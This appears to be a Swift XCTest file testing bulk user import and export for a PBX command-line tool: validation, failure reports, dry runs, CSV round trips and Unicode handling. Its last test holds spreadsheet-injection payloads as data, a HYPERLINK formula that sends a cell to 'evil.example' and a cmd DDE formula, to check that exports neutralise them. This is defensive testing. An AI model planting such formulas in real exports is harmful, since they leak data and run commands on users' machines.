import Foundation
import XCTest

/// `users import` and `users export` as docs/cli.md's "Bulk provisioning" describes
/// (an import stopped by Ctrl-C: PBXEndToEndTests).
final class ImportExportEndToEndTests: XCTestCase {
    func write(_ text: String, _ name: String) -> String {
        let path = InProcess.temporaryDirectory() + "/" + name
        try! text.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    static let header = "name,display_name,email,role,extension_number,password,extension_password,voicemail_pin,office_hours.mode"

    func row(_ index: Int, name: String? = nil, pin: String = "385920") -> String {
        "\(name ?? "imp.user\(index)"),Imported \(index),imp\(index)@example.com,StandardUser,\(8000 + index),Pass#\(index),Sip#\(index),\(pin),"
    }

    func testInvalidRowsAreAllReportedAndNothingIsSent() throws {
        let file = write([Self.header, row(1), row(2, name: "admin"), row(3, pin: "123456"), row(4, name: "imp.user1"), "x,y"].joined(separator: "\n") + "\n", "bad.csv")
        let closed = InProcess.environment(home: InProcess.temporaryDirectory(), extra: ["PBXCTL_URL": InProcess.closedURL, "PBXCTL_TOKEN": "t"])
        let result = InProcess.run(["users", "import", file], env: closed)
        XCTAssertEqual(result.code, 2, result.stderr)
        XCTAssertTrue(result.stderr.contains("2 cells for 9 columns (1 row: line 6)"), result.stderr)

        let file2 = write([Self.header, row(1), row(2, name: "admin"), row(3, pin: "123456"), row(4, name: "imp.user1")].joined(separator: "\n") + "\n", "bad2.csv")
        let second = InProcess.run(["users", "import", file2], env: closed)
        XCTAssertEqual(second.code, 2)
        XCTAssertTrue(second.stderr.contains("3 of 4 rows are invalid; nothing was sent"), second.stderr)
        XCTAssertTrue(second.stderr.contains("name: 'admin' is reserved for the system administrator (1 row: line 3)"), second.stderr)
        XCTAssertTrue(second.stderr.contains("voicemail_pin: must not contain a sequence (123) (1 row: line 4)"), second.stderr)
        XCTAssertTrue(second.stderr.contains("name: 'imp.user1' is also on line 2 (1 row: line 5)"), second.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: file2 + ".failed.csv"))
    }

    func testImportCreatesReportsFailuresAndReRunsWithoutDuplicates() throws {
        let sandbox = try InProcessSandbox(arguments: ["--users", "20"])
        defer { sandbox.stop() }
        let env = sandbox.env()
        // Row 3 takes an extension the sandbox already has (1005): the server refuses it.
        var lines = [Self.header] + (1...40).map { row($0) }
        lines[3] = "imp.user3,Imported 3,imp3@example.com,StandardUser,1005,Pass#3,Sip#3,385920,CUSTOM"
        let file = write(lines.joined(separator: "\r\n") + "\r\n", "users.csv")
        let first = InProcess.run(["users", "import", file, "--concurrency", "8"], env: env)
        XCTAssertEqual(first.code, 6, first.stderr)
        XCTAssertTrue(first.stderr.contains("created 39, skipped 0, failed 1"), first.stderr)
        let failed = try String(contentsOfFile: file + ".failed.csv", encoding: .utf8)
        XCTAssertTrue(failed.hasPrefix("name,display_name,email,role,extension_number,password,extension_password,voicemail_pin,office_hours.mode,error\n"), failed)
        XCTAssertTrue(failed.contains("imp.user3,") && failed.contains("line 4: 409 CONFLICT"), failed)
        XCTAssertEqual((try FileManager.default.attributesOfItem(atPath: file + ".failed.csv")[.posixPermissions] as? NSNumber)?.intValue, 0o600)

        let created = InProcess.run(["users", "get", "8010", "-o", "json"], env: env)
        XCTAssertEqual((InProcess.json(created.stdout) as? [String: Any])?["display_name"] as? String, "Imported 10")

        let again = InProcess.run(["users", "import", file, "--skip-existing"], env: env)
        XCTAssertEqual(again.code, 0, again.stderr)
        XCTAssertTrue(again.stderr.contains("created 0, skipped 40, failed 0"), again.stderr)
        let all = InProcess.run(["users", "list", "--all", "-o", "jsonl", "--fields", "name"], env: env).stdout.split(separator: "\n")
        XCTAssertEqual(all.count, 20 + 39, "no duplicates")
        XCTAssertEqual(Set(all).count, all.count)
        XCTAssertFalse(FileManager.default.fileExists(atPath: file + ".failed.csv"), "a clean run removes the stale failures file")
        XCTAssertEqual(try sandbox.stats().operations["createUser"], 40, "the re-run sent no create at all")
    }

    func testJSONLinesFromStdinAndDryRun() throws {
        let sandbox = try InProcessSandbox(arguments: ["--users", "0"])
        defer { sandbox.stop() }
        let jsonl = (1...3).map { #"{"name":"jl.\#($0)","display_name":"J \#($0)","email":"j\#($0)@example.com","role":"StandardUser","extension_number":"90\#($0)","password":"p","extension_password":"q","voicemail_pin":"385920","enable_dnd":true}"# }.joined(separator: "\n")
        let dry = InProcess.run(["users", "import", "-", "--dry-run"], env: sandbox.env(), stdin: jsonl)
        XCTAssertEqual(dry.code, 0, dry.stderr)
        XCTAssertEqual(dry.stdout.split(separator: "\n").filter { $0.hasPrefix("curl -sS -X POST") }.count, 3)
        XCTAssertFalse(dry.stdout.contains(#""password":"p""#))
        XCTAssertEqual(try sandbox.stats().operations["createUser"], nil, "a dry run sends nothing")
        let real = InProcess.run(["users", "import", "-", "-q"], env: sandbox.env(), stdin: jsonl)
        XCTAssertEqual(real.code, 0, real.stderr)
        XCTAssertEqual(real.stdout.split(separator: "\n").count, 3, "-q prints the new IDs")
        let user = try XCTUnwrap(InProcess.json(InProcess.run(["users", "get", "902", "-o", "json"], env: sandbox.env()).stdout) as? [String: Any])
        XCTAssertEqual(user["enable_dnd"] as? Bool, true)
    }

    /// Export as CSV from one PBX, import into an empty one: the same users.
    func testExportCSVRoundTrips() throws {
        let source = try InProcessSandbox(arguments: ["--users", "150"])
        let target = try InProcessSandbox(arguments: ["--users", "0"])
        defer {
            source.stop()
            target.stop()
        }
        let export = InProcess.run(["users", "export", "-o", "csv"], env: source.env())
        XCTAssertEqual(export.code, 0, export.stderr)
        XCTAssertEqual(export.stdout.components(separatedBy: "\n").count, 152, "header, 150 users (every page), trailing LF")
        let file = write(export.stdout, "export.csv")
        let imported = InProcess.run(["users", "import", file, "--generate-secrets"], env: target.env())
        XCTAssertEqual(imported.code, 0, imported.stderr)
        XCTAssertTrue(imported.stderr.contains("created 150"), imported.stderr)
        let secrets = file + ".secrets.csv"
        XCTAssertEqual((try FileManager.default.attributesOfItem(atPath: secrets)[.posixPermissions] as? NSNumber)?.intValue, 0o600)
        // What the server assigns (id, created_at) differs; every other column must not.
        func comparable(_ csv: String) -> [String] {
            let lines = csv.components(separatedBy: "\n").filter { !$0.isEmpty }
            let header = lines.first?.components(separatedBy: ",") ?? []
            let kept = header.indices.filter { !["id", "created_at"].contains(header[$0]) }
            XCTAssertEqual(kept.count, header.count - 2, "id and created_at are exported: \(header)")
            return lines.dropFirst().map { line in
                let cells = line.components(separatedBy: ",")
                return kept.map { cells.indices.contains($0) ? cells[$0] : "?" }.joined(separator: ",")
            }.sorted()
        }
        XCTAssertEqual(comparable(InProcess.run(["users", "export", "-o", "csv"], env: target.env()).stdout), comparable(export.stdout))
        let secretsBefore = try String(contentsOfFile: secrets, encoding: .utf8)
        let rerun = InProcess.run(["users", "import", file, "--generate-secrets", "--skip-existing"], env: target.env())
        XCTAssertEqual(rerun.code, 0)
        XCTAssertEqual(try String(contentsOfFile: secrets, encoding: .utf8), secretsBefore, "recorded secrets are reused, never replaced")
        let jsonl = InProcess.run(["users", "export", "-o", "jsonl"], env: source.env())
        XCTAssertEqual(jsonl.stdout.split(separator: "\n").count, 150)
    }
}

extension ImportExportEndToEndTests {
    /// Users whose display names hold the given strings, created in a fresh sandbox from JSON Lines.
    func sandbox(withDisplayNames names: [String]) throws -> InProcessSandbox {
        let source = try InProcessSandbox(arguments: ["--users", "0"])
        let lines = try names.enumerated().map { index, name in
            let user: [String: String] = ["name": "odd.\(index)", "display_name": name, "email": "odd\(index)@example.com", "role": "StandardUser",
                                          "extension_number": String(7000 + index), "password": "Pass#\(index)x", "extension_password": "Sip#\(index)x", "voicemail_pin": "385920"]
            return String(decoding: try JSONSerialization.data(withJSONObject: user, options: [.sortedKeys]), as: UTF8.self)
        }
        let created = InProcess.run(["users", "import", "-", "--format", "jsonl"], env: source.env(), stdin: lines.joined(separator: "\n") + "\n")
        XCTAssertEqual(created.code, 0, created.stderr)
        return source
    }

    /// name → display name as Unicode scalars: Swift's `==` would let canonically equal strings pass.
    func displayNames(_ sandbox: InProcessSandbox) -> [String: [UInt32]] {
        let list = InProcess.run(["users", "list", "--all", "-o", "json", "--fields", "name,display_name"], env: sandbox.env())
        let users = (InProcess.json(list.stdout) as? [[String: Any]]) ?? []
        return Dictionary(uniqueKeysWithValues: users.map { ($0["name"] as? String ?? "", ($0["display_name"] as? String ?? "").unicodeScalars.map(\.value)) })
    }

    /// Line breaks inside a cell, and commas or quotes carrying combining marks, survive export → import.
    func testExportImportKeepsEveryScalar() throws {
        let names = ["Bob\r\nBuilder", "Line\nFeed", "Carriage\rReturn", "Comma,\u{301}Mark", "Quote \"\u{301} Mark", "\u{301}lead", "tab\there", "back\\slash"]
        let source = try sandbox(withDisplayNames: names)
        let target = try InProcessSandbox(arguments: ["--users", "0"])
        defer {
            source.stop()
            target.stop()
        }
        let before = displayNames(source)
        XCTAssertEqual(before["odd.0"], "Bob\r\nBuilder".unicodeScalars.map(\.value))
        let export = InProcess.run(["users", "export", "-o", "csv"], env: source.env())
        XCTAssertEqual(export.code, 0, export.stderr)
        let file = write(export.stdout, "odd.csv")
        let imported = InProcess.run(["users", "import", file, "--generate-secrets"], env: target.env())
        XCTAssertEqual(imported.code, 0, imported.stderr)
        XCTAssertEqual(displayNames(target), before)
        let tsv = InProcess.run(["users", "list", "--all", "-o", "tsv", "--fields", "display_name", "--no-headers"], env: source.env())
        XCTAssertEqual(tsv.stdout.unicodeScalars.filter { $0 == "\n" }.count, names.count, "one line per user: \(tsv.stdout.debugDescription)")
        XCTAssertFalse(tsv.stdout.unicodeScalars.contains("\r"), "TSV escapes CR")
    }
}

extension ImportExportEndToEndTests {
    /// A display name a spreadsheet would run is written with a leading apostrophe;
    /// `users import` takes it off again, so export → import stays exact.
    func testFormulasAreNeutralisedAndImportUndoesIt() throws {
        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tTab", "'=quoted by the server",
                     "+14155550100", "-5"]
        let source = try sandbox(withDisplayNames: names)
        let target = try InProcessSandbox(arguments: ["--users", "0"])
        defer {
            source.stop()
            target.stop()
        }
        let export = InProcess.run(["users", "export", "-o", "csv", "--fields", "name,display_name,email,role,extension_number"], env: source.env())
        XCTAssertEqual(export.code, 0, export.stderr)
        let lines = export.stdout.components(separatedBy: "\n")
        XCTAssertTrue(lines.contains("odd.0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",odd0@example.com,StandardUser,7000"), export.stdout)
        XCTAssertTrue(lines.contains("odd.1,'+SUM(1),odd1@example.com,StandardUser,7001"), export.stdout)
        XCTAssertTrue(lines.contains("odd.3,'@SUM(A1),odd3@example.com,StandardUser,7003"), export.stdout)
        XCTAssertTrue(lines.contains("odd.5,''=quoted by the server,odd5@example.com,StandardUser,7005"), export.stdout)
        XCTAssertTrue(lines.contains("odd.6,+14155550100,odd6@example.com,StandardUser,7006"), "a phone number stays a number: \(export.stdout)")
        XCTAssertTrue(lines.contains("odd.7,-5,odd7@example.com,StandardUser,7007"), export.stdout)
        let file = write(export.stdout, "formulas.csv")
        let imported = InProcess.run(["users", "import", file, "--generate-secrets"], env: target.env())
        XCTAssertEqual(imported.code, 0, imported.stderr)
        XCTAssertEqual(displayNames(target), displayNames(source))
        XCTAssertEqual(displayNames(target)["odd.0"], names[0].unicodeScalars.map(\.value))
    }
}
